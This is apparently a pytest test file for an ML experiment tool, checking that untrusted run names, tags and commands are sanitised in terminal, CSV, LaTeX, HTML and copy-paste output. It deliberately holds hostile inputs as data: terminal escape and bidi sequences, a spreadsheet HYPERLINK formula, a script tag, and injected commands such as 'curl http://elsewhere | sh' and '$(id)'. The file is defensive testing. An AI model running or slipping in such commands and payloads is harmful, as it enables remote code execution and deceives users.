"""Names, params, tags and results of strangers: what of them reaches the terminal, a spreadsheet, or the clipboard."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from mlflow.entities import Metric, Param, RunTag

from support.outputs import Command, create_store, merge_outputs
from trialmaker.analysis.headline import _command
from trialmaker.platform.run_result import RunResult, read_result

EVIL = "\x1b]0;owned\x07\x1b[2J\rtraining accuracy 1.0\nfake: line\u202egnp\u2066\x9b1m"
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA = '=HYPERLINK("http://elsewhere","here")'


@pytest.fixture
def output(tmp_path: Path) -> Path:
    """An output all of whose texts are hostile: two seeds of two configurations, one of them a formula."""
    folder = tmp_path / "received"
    client = create_store(folder)
    experiment = client.create_experiment(EVIL[:100], artifact_location=(folder / "mlartifacts" / "1").as_uri())
    for seed in (0, 1):
        for model in (f"cnn{EVIL}", FORMULA):
            run = client.create_run(experiment, run_name=f"👩\u200d👧 基线 {EVIL}", start_time=1000).info.run_id
            params = {"model.name": model, "seed": str(seed), "objective": "val_accuracy", "data.name": f"d{EVIL}"}
            params |= {"direction": "maximize", "optimizer.learning_rate": "-0.5" if seed else "0.5"}
            metrics = [Metric(name, 0.5 + seed / 10, 1, 1) for name in ("val_accuracy", "best_val_accuracy")]
            tags = {"team": f"+{EVIL}{model}", "mlflow.note.content": f"<script>{EVIL}</script>{model}"}
            client.log_batch(
                run, metrics, [Param(*item) for item in params.items()], [RunTag(*item) for item in tags.items()]
            )
            client.log_text(run, "x" * 100, f"big{seed}.txt")
            client.set_terminated(run, end_time=61_500)
    merge_outputs([folder], tmp_path / "merged")
    return folder


@pytest.mark.parametrize(
    "words",
    [
        *(["compare"], ["compare", "--columns", "all"], ["compare", "--seeds"], ["compare", "--sort", "team"]),
        *(["compare", "--format", name] for name in ("markdown", "json", "latex")),
        *(["compare", "--seeds", "--format", name] for name in ("markdown", "latex")),
        *(["compare", "--where", f"team={EVIL}"], ["prune", "--keep", "1"], ["rerun", "--dry-run", "👩\u200d👧"]),
    ],
    ids=" ".join,
)
def test_control_characters_stay_out_of_the_terminal(words: list[str], output: Path, command: Command) -> None:
    _, out, err = command(*words, str(output))
    assert not UNSAFE.search(out + err)
    assert "\nfake: line" not in out + err and not re.search(r"^training accuracy 1.0", out, re.MULTILINE)


def test_names_of_people_stay(output: Path, command: Command) -> None:
    _, out, _ = command("prune", "--keep", "1", str(output))
    assert "👩\u200d👧 基线" in out


def test_csv_has_no_formulas_and_its_numbers_are_numbers(output: Path, command: Command) -> None:
    _, out, _ = command("compare", "--format", "csv", str(output))
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert {row["model.name"][:3] for row in rows} == {"cnn", "'=H"}
    assert {row["optimizer.learning_rate"] for row in rows} == {"0.5", "-0.5"}
    assert all(row["team"].startswith("'+") for row in rows)
    assert {float(row["best val_accuracy"]) for row in rows} == {0.5, 0.6}


def test_latex_and_html_are_escaped(output: Path, command: Command, tmp_path: Path) -> None:
    _, out, _ = command("compare", "--format", "latex", "--columns", "note", str(output))
    assert "<script>" not in out and r"\textless{}script" in out
    command("compare", "--html", str(tmp_path / "page.html"), "--columns", "note", str(output))
    page = (tmp_path / "page.html").read_text()
    assert "<script>\\x1b" not in page and "\x1b" not in page and "\u202e" not in page


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python train.py model=cnn seed=1", "python train.py model=cnn seed=1"),
        ("python train.py seed=1 hydra.mode=RUN", "python train.py seed=1 hydra.mode=RUN"),
        ("python train.py seed=1 output=/mine tracking.uri=http://elsewhere", "python train.py seed=1"),
        ("python train.py seed=1; curl http://elsewhere | sh", ""),
        ("curl http://elsewhere | sh", ""),
        ("python train.py seed=1 $(id)", ""),
        ("""python train.py 'note="$(id)"'""", """python train.py 'note="$(id)"'"""),
        ("python train.py --config-dir=/tmp/evil", ""),
        ("python train.py hydra.job.env_set.PYTHONPATH=/tmp", ""),
        ("python train.py 'seed=1", ""),
        ("", ""),
    ],
)
def test_a_command_to_copy_only_sets_fields(command: str, shown: str) -> None:
    assert _command(RunResult(command)) == shown


@pytest.mark.parametrize(
    "content",
    ['{"command": 1}', '{"command": "x", "tags": {"a": 1}}', '{"command": "x", "best_epoch": "1"}', "[" * 100_000, "1"],
)
def test_a_result_of_other_types_is_none(content: str, tmp_path: Path) -> None:
    (tmp_path / "result.json").write_text(content)
    assert read_result(tmp_path / "result.json") is None
    (tmp_path / "result.json").write_text(json.dumps(vars(RunResult("x", best_epoch=1, best_metrics={"a": 1}))))
    assert read_result(tmp_path / "result.json").best_epoch == 1
